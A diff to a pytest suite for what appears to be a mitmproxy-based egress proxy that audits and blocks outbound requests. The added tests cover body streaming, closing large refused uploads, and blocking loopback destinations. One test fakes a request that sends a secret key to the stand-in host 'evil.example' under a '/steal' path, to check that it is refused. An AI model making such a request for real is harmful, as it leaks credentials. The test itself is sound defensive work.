@@ -14,6 +14,7 @@ import time
 
 import pytest
 from mitmproxy import http
+from mitmproxy.connection import ConnectionState
 from mitmproxy.test import taddons, tflow
 
 from sealgate import decision, origins, release, sessions
@@ -44,6 +45,7 @@ def flow_to(url: str, issued: sessions.Issued | None, *, method: str = "GET", he
             content: bytes = b"") -> http.HTTPFlow:
     f = tflow.tflow()
     f.request = http.Request.make(method, url, content, headers or {})
+    f.server_conn.state = ConnectionState.OPEN  # as in a tunnel: connected (to where the test says) before the request
     if issued is not None:
         f.request.headers["Proxy-Authorization"] = credential(issued)
     return f
@@ -280,7 +282,8 @@ def test_a_large_or_unbounded_compressed_body_is_refused_before_it_is_read(world
     if length is not None:
         f.request.headers["content-length"] = length
     asyncio.run(addon.requestheaders(f))  # the head only: nothing of the body has been read
-    assert_refused(f, "unreadable_body")
+    assert f.error is not None and f.response is None  # closed: an answer would wait for the whole body
+    assert [r.code for r in store.audit()] == ["unreadable_body"]
 
 
 # --- the dashboard's copy and what its API may run --------------------------------------------------
@@ -315,3 +318,61 @@ def test_the_dashboard_keeps_only_viewing_commands():
             "replay.client", "inject.websocket", "save.file", "export.file"}.isdisjoint(names)
     assert {"set", "view.clear", "flow.mark"} <= names
     assert type(m.addons.chain[0]).__name__ == "MirrorReceiver"
+
+
+def test_an_http2_body_of_unknown_length_streams_rather_than_being_held_whole(world):
+    addon, store, issued = world
+    f = flow_to("https://api.example/up", issued, method="POST")
+    f.request.http_version = "HTTP/2.0"
+    f.request.headers.pop("content-length", None)
+    asyncio.run(addon.requestheaders(f))
+    assert f.response is None and callable(f.request.stream)
+
+
+@pytest.mark.parametrize("headers", [{"Content-Length": str(400 << 20)}, {"Transfer-Encoding": "chunked"}])
+def test_a_refused_request_bringing_a_large_body_is_closed_not_held_and_answered(world, headers):
+    """mitmproxy reads a whole body before it sends an answer set in requestheaders: a 407 for a 400 MiB
+    upload would hold 400 MiB. Closed instead, and recorded."""
+    addon, store, issued = world
+    f = flow_to("https://api.example/", None, method="POST", headers=headers)
+    f.request.headers.pop("content-length", None)
+    f.request.headers.update(headers)
+    asyncio.run(addon.requestheaders(f))
+    assert f.error is not None and f.response is None  # killed
+    assert [(r.code, r.status) for r in store.audit()] == [("proxy_auth_required", 0)]
+    assert blocks(addon, "proxy_auth_required") == 1
+
+
+def test_a_non_utf8_byte_in_the_path_is_still_audited(world, value):
+    addon, store, issued = world
+    f = flow_to("https://evil.example/", issued, headers={"X-Key": issued.env["K"]})
+    f.request.data.path = b"/steal\xff/" + issued.env["K"].encode()
+    through_request(addon, f)
+    assert_refused(f, "origin_not_allowed")
+    [row] = store.audit()
+    assert row.code == "origin_not_allowed" and row.path == f"/steal\\xff/{issued.env['K']}"
+
+
+def test_absolute_form_https_to_a_blocked_address_is_refused_by_the_one_exit(world):
+    """No CONNECT, so no connection yet: the destination is checked in the request hook, like plain http."""
+    addon, store, issued = world
+    f = flow_to("https://127.0.0.3/", issued, headers={"X-Key": issued.env["K"]})
+    f.server_conn.state = ConnectionState.CLOSED
+    through_request(addon, f)
+    assert_refused(f, "destination_blocked")
+    assert [r.code for r in store.audit()] == ["destination_blocked"] and blocks(addon, "destination_blocked") == 1
+
+
+def test_websocket_history_is_bounded(world):
+    from sealgate.addon import WEBSOCKET_HISTORY
+    addon, store, issued = world
+    f = tflow.twebsocketflow()
+    f.request = http.Request.make("GET", "https://api.example/ws")
+    f.request.headers["Proxy-Authorization"] = credential(issued)
+    f.server_conn.state = ConnectionState.OPEN
+    asyncio.run(addon.requestheaders(f))
+    for i in range(WEBSOCKET_HISTORY * 3):
+        f.websocket.messages.append(tflow.websocket.WebSocketMessage(1, False, b"m%d" % i))
+        addon.websocket_message(f)
+    assert len(f.websocket.messages) <= WEBSOCKET_HISTORY
+    assert f.websocket.messages[-1].content == b"m%d" % (WEBSOCKET_HISTORY * 3 - 1)
